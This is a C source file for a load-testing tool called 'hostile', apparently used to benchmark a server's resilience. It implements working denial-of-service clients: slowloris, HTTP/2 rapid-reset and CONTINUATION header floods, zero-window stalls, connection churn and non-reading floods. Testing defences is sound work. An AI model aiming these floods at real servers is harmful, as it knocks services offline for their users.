/* Clients that mean no good, each kind at a stated rate, for as long as it is left running:
 *
 *   hostile KIND HOST PORT COUNT [FIRST [AGAIN]]
 *
 *   idle     COUNT connections that say nothing after HTTP/2's preface
 *   churn    COUNT connections a second, reset as soon as they are there
 *   loris    COUNT connections, each with one byte a second of a request that never ends
 *   window   COUNT connections, each with 20 calls for /big whose answers they have no window for
 *   reset    COUNT calls a second on one connection, each cancelled at once
 *   headers  COUNT connections a second that send headers until they are closed
 *   deaf     COUNT connections that ask for pages and read none
 *   flood    COUNT connections, each with calls that are cancelled at once, as fast as they are
 *            taken
 *
 * and, of any protocol, with the bytes of the files FIRST and AGAIN:
 *
 *   knock    COUNT connections a second, each of which says FIRST and is reset a moment later
 *   stream   COUNT connections that say FIRST, then AGAIN and again as fast as it is taken, and
 *            drop all answers
 *   unread   the same, and read no answer
 *
 * Prints "ready" once it has begun. Every socket is non-blocking: who is slow to take, or
 * closes, is not waited for, and dialled again. tests/bench/hostile.py measures what others
 * notice of it. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/buf.h"
#include "base/mem.h"

#define TICK_MS        5
#define CALLS_WINDOW   20
#define HEADERS_FRAMES 40
#define BACKLOG        256 /* connections that are opened between two looks at the clock */
#define KNOCKS_OPEN    64  /* how many connections later one is reset */
#define RESETS_UNSENT_MAX ((size_t)1 << 20)
#define FLOOD_CALLS    200 /* made up at a time */

static struct sockaddr_in address;

/* ---- sockets ------------------------------------------------------------------------------ */

static void die(const char *what)
{
    fprintf(stderr, "hostile: %s: %s\n", what, strerror(errno));
    exit(1);
}

/* Connected, since loopback connects at once; -1 if it was not taken. */
static int dial(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) {
        die("socket");
    }
    if (connect(fd, (struct sockaddr *)&address, sizeof address) != 0) {
        (void)close(fd);
        return -1;
    }
    if (fcntl(fd, F_SETFL, O_NONBLOCK) != 0) {
        die("fcntl");
    }
    return fd;
}

/* False: the other side closed. Bytes that it does not take are dropped. */
static bool say(int fd, struct buf *b)
{
    ssize_t n = send(fd, b->data, b->size, MSG_NOSIGNAL);
    return n >= 0 || errno == EAGAIN || errno == EWOULDBLOCK;
}

static void hang_up(int fd)
{
    struct linger reset = {.l_onoff = 1, .l_linger = 0};
    (void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
    (void)close(fd);
}

static bool drain(int fd)
{
    char bytes[65536];
    for (;;) {
        ssize_t n = recv(fd, bytes, sizeof bytes, 0);
        if (n <= 0) {
            return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK);
        }
    }
}

/* ---- HTTP/2, spelled out ------------------------------------------------------------------ */

static void frame(struct buf *b, uint8_t type, uint8_t flags, uint32_t stream, size_t bytes)
{
    const uint8_t head[9] = {(uint8_t)(bytes >> 16), (uint8_t)(bytes >> 8), (uint8_t)bytes, type,
                             flags, (uint8_t)(stream >> 24), (uint8_t)(stream >> 16),
                             (uint8_t)(stream >> 8), (uint8_t)stream};
    buf_append(b, head, sizeof head);
}

static void preface(struct buf *b, bool without_window)
{
    static const char text[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    static const uint8_t no_window[6] = {0, 4, 0, 0, 0, 0};
    buf_append(b, text, sizeof text - 1);
    frame(b, 4, 0, 0, without_window ? sizeof no_window : 0);
    buf_append(b, no_window, without_window ? sizeof no_window : 0);
}

static void field(struct buf *b, const char *name, const char *value)
{
    const uint8_t literal = 0;
    uint8_t bytes = (uint8_t)strlen(name);
    buf_append(b, &literal, 1);
    buf_append(b, &bytes, 1);
    buf_append(b, name, bytes);
    bytes = (uint8_t)strlen(value);
    buf_append(b, &bytes, 1);
    buf_append(b, value, bytes);
}

/* A whole call for /big. */
static void call(struct buf *b, uint32_t stream)
{
    static const uint8_t ask[] = {0, 0, 0, 0, 6, 0x12, 4, '/', 'b', 'i', 'g'};
    struct buf fields = {0};
    field(&fields, ":method", "POST");
    field(&fields, ":scheme", "http");
    field(&fields, ":path", "/coord.v1.Tree/Get");
    field(&fields, ":authority", "coord");
    field(&fields, "te", "trailers");
    field(&fields, "content-type", "application/grpc");
    frame(b, 1, 4, stream, fields.size);
    buf_append(b, fields.data, fields.size);
    frame(b, 0, 1, stream, sizeof ask);
    buf_append(b, ask, sizeof ask);
    buf_close(&fields);
}

/* ---- the kinds ---------------------------------------------------------------------------- */

/* One of many that say as much as is taken. */
struct talker {
    int fd;
    size_t sent;     /* of what is said now */
    bool has_begun;  /* FIRST is said */
    uint32_t stream; /* of HTTP/2 */
    struct buf made; /* the calls that are said now */
};

struct attack {
    int count;
    int *fds;
    int fd_count;
    uint32_t stream;
    int due; /* thousandths of what comes at a rate */
    struct buf unsent; /* of the one connection of tick_reset */
    struct buf first;
    struct buf again;
    bool is_deaf;
    struct talker *talkers;
};

static void open_all(struct attack *a, struct buf *first)
{
    for (int i = 0; i < a->count; i++) {
        int fd = dial();
        if (fd >= 0 && say(fd, first)) {
            a->fds[a->fd_count++] = fd;
        } else if (fd >= 0) {
            hang_up(fd);
        }
        if (i % BACKLOG == BACKLOG - 1) {
            (void)poll(NULL, 0, TICK_MS);
        }
    }
}

/* How many of COUNT a second are due in this tick. */
static int due(struct attack *a)
{
    a->due += a->count * TICK_MS;
    int n = a->due / 1000;
    a->due %= 1000;
    return n;
}

static void tick_churn(struct attack *a)
{
    for (int n = due(a); n > 0; n--) {
        int fd = dial();
        if (fd >= 0) {
            hang_up(fd);
        }
    }
}

static void tick_loris(struct attack *a)
{
    struct buf x = {0};
    buf_append(&x, "x", 1);
    for (int n = due(a); n > 0 && a->fd_count > 0; n--) {
        a->stream = (a->stream + 1) % (uint32_t)a->fd_count;
        if (!say(a->fds[a->stream], &x)) {
            hang_up(a->fds[a->stream]);
            struct buf again = {0};
            buf_append(&again, "GET /", 5);
            int fd = dial();
            if (fd < 0 || !say(fd, &again)) {
                die("connect");
            }
            a->fds[a->stream] = fd;
            buf_close(&again);
        }
    }
    buf_close(&x);
}

static void cancelled_call(struct buf *b, uint32_t stream)
{
    static const uint8_t cancel[4] = {0, 0, 0, 8};
    call(b, stream);
    frame(b, 3, 0, stream, sizeof cancel);
    buf_append(b, cancel, sizeof cancel);
}

static void tick_reset(struct attack *a)
{
    if (a->fd_count == 0 || !drain(a->fds[0])) {
        if (a->fd_count > 0) {
            hang_up(a->fds[0]);
        }
        a->fds[0] = dial();
        a->fd_count = a->fds[0] >= 0;
        a->stream = 1;
        buf_clear(&a->unsent);
        preface(&a->unsent, false);
    }
    for (int n = due(a); n > 0 && a->unsent.size < RESETS_UNSENT_MAX; n--) {
        cancelled_call(&a->unsent, a->stream);
        a->stream += 2;
    }
    ssize_t sent = a->fd_count > 0
                       ? send(a->fds[0], a->unsent.data, a->unsent.size, MSG_NOSIGNAL)
                       : 0;
    buf_consume(&a->unsent, sent > 0 ? (size_t)sent : 0);
}

static void tick_headers(struct attack *a)
{
    static const uint8_t filling[16384] = {0};
    struct buf b = {0};
    preface(&b, false);
    frame(&b, 1, 0, 1, 0);
    for (int i = 0; i < HEADERS_FRAMES; i++) {
        frame(&b, 9, 0, 1, sizeof filling);
        buf_append(&b, filling, sizeof filling);
    }
    for (int n = due(a); n > 0; n--) {
        int fd = dial();
        if (fd >= 0) {
            (void)say(fd, &b);
            hang_up(fd);
        }
    }
    buf_close(&b);
}

/* ---- any protocol, from files ------------------------------------------------------------- */

static void tick_knock(struct attack *a)
{
    for (int n = due(a); n > 0; n--) {
        int *fd = &a->fds[a->stream++ % KNOCKS_OPEN];
        if (*fd >= 0) {
            hang_up(*fd);
        }
        *fd = dial();
        if (*fd >= 0) {
            (void)say(*fd, &a->first);
        }
    }
}

/* What this one says next, all of it. */
static struct buf *speech(struct attack *a, struct talker *t, bool is_flood)
{
    if (!is_flood) {
        return t->has_begun && a->again.size > 0 ? &a->again : &a->first;
    }
    if (t->sent == t->made.size || !t->has_begun) {
        buf_clear(&t->made);
        if (!t->has_begun) {
            preface(&t->made, false);
        }
        for (int i = 0; i < FLOOD_CALLS; i++) {
            cancelled_call(&t->made, t->stream);
            t->stream += 2;
        }
        t->sent = 0;
        t->has_begun = true;
    }
    return &t->made;
}

static void talker_dial(struct talker *t)
{
    if (t->fd >= 0) {
        hang_up(t->fd);
    }
    t->fd = dial();
    t->sent = 0;
    t->has_begun = false;
    t->stream = 1;
}

/* Says as much as is taken, but not more than a few times all there is. */
static void talk(struct attack *a, struct talker *t, bool is_flood)
{
    if (t->fd < 0 || (!a->is_deaf && !drain(t->fd))) {
        talker_dial(t);
    }
    for (int i = 0; i < 8 && t->fd >= 0; i++) {
        struct buf *b = speech(a, t, is_flood);
        ssize_t n = send(t->fd, b->data + t->sent, b->size - t->sent, MSG_NOSIGNAL);
        if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
            talker_dial(t);
            return;
        }
        t->sent += n > 0 ? (size_t)n : 0;
        if (t->sent < b->size) {
            return;
        }
        if (!is_flood) {
            t->has_begun = true;
            t->sent = 0;
        }
    }
}

static void tick_talk(struct attack *a)
{
    for (int i = 0; i < a->count; i++) {
        talk(a, &a->talkers[i], a->first.size == 0);
    }
}

static void tick_nothing(struct attack *a)
{
    (void)a;
}

static const struct kind {
    const char *name;
    const char *first; /* what each connection begins with, if all are opened at once */
    bool is_http2;
    void (*tick)(struct attack *a);
} kinds[] = {
    {"idle", "", true, tick_nothing},
    {"churn", NULL, false, tick_churn},
    {"loris", "GET /", false, tick_loris},
    {"window", "", true, tick_nothing},
    {"reset", NULL, false, tick_reset},
    {"headers", NULL, false, tick_headers},
    {"deaf", "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", false, tick_nothing},
    {"flood", NULL, false, tick_talk},
    {"knock", NULL, false, tick_knock},
    {"stream", NULL, false, tick_talk},
    {"unread", NULL, false, tick_talk},
};

static const struct kind *kind_find(const char *name)
{
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        if (strcmp(kinds[i].name, name) == 0) {
            return &kinds[i];
        }
    }
    fprintf(stderr, "hostile: unknown kind '%s'\n", name);
    exit(2);
}

static void begin(struct attack *a, const struct kind *k)
{
    struct buf first = {0};
    if (k->first == NULL) {
        return;
    }
    bool is_window = strcmp(k->name, "window") == 0;
    bool is_deaf = strcmp(k->name, "deaf") == 0;
    if (k->is_http2) {
        preface(&first, is_window);
    }
    for (uint32_t i = 0; is_window && i < CALLS_WINDOW; i++) {
        call(&first, 2 * i + 1);
    }
    for (int i = 0; i < (is_deaf ? 1000 : 1); i++) {
        buf_append(&first, k->first, strlen(k->first));
    }
    open_all(a, &first);
    buf_close(&first);
}

static void read_file(struct buf *out, const char *path)
{
    char bytes[65536];
    FILE *in = fopen(path, "rb");
    if (in == NULL) {
        die(path);
    }
    size_t n;
    while ((n = fread(bytes, 1, sizeof bytes, in)) > 0) {
        buf_append(out, bytes, n);
    }
    (void)fclose(in);
}

static void prepare(struct attack *a, const char *name, int file_count, char **files)
{
    size_t room = (size_t)a->count > KNOCKS_OPEN ? (size_t)a->count : KNOCKS_OPEN;
    a->fds = mem_zalloc(room * sizeof *a->fds);
    a->talkers = mem_zalloc((size_t)a->count * sizeof *a->talkers);
    for (int i = 0; i < a->count; i++) {
        a->talkers[i].fd = -1;
    }
    for (size_t i = 0; i < room && strcmp(name, "knock") == 0; i++) {
        a->fds[i] = -1;
    }
    for (int i = 0; i < file_count; i++) {
        read_file(i == 0 ? &a->first : &a->again, files[i]);
    }
    a->is_deaf = strcmp(name, "unread") == 0;
}

int main(int argc, char **argv)
{
    if (argc < 5 || argc > 7) {
        fprintf(stderr, "usage: hostile KIND HOST PORT COUNT [FIRST [AGAIN]]\n");
        return 2;
    }
    const struct kind *k = kind_find(argv[1]);
    struct attack a = {.count = atoi(argv[4])};
    struct rlimit files;
    if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
        files.rlim_cur = files.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &files);
    }
    address = (struct sockaddr_in){.sin_family = AF_INET,
                                   .sin_port = htons((uint16_t)atoi(argv[3]))};
    if (a.count <= 0 || inet_pton(AF_INET, argv[2], &address.sin_addr) != 1) {
        fprintf(stderr, "hostile: HOST is an IPv4 address, COUNT at least 1\n");
        return 2;
    }
    prepare(&a, k->name, argc - 5, argv + 5);
    begin(&a, k);
    printf("ready\n");
    (void)fflush(stdout);
    for (;;) {
        k->tick(&a);
        (void)poll(NULL, 0, TICK_MS);
    }
}
